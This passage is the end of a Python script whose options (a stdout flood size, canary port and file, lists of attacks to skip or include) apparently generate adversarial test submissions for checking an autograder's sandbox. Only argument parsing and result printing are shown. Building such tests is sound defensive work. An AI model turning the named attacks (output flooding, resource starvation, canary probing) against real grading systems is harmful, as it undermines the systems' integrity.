    parser.add_argument("--flood-mb", type=int, default=200,
                        help="MB of stdout (starve-stdout) and of file (starve-many-files-run)")
    parser.add_argument("--skip", nargs="*", default=[], help="attack names to leave out")
    parser.add_argument("--only", nargs="*", default=[], help="make only these (default: all)")
    args = parser.parse_args(argv)
    expected = build(args.course, args.assignment, args.canary_port, args.memory_mb,
                     args.canary_file, args.flood_mb, args.skip, args.only)
    for student, info in expected["students"].items():
        print(f"{student:<24} {info['attempt']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
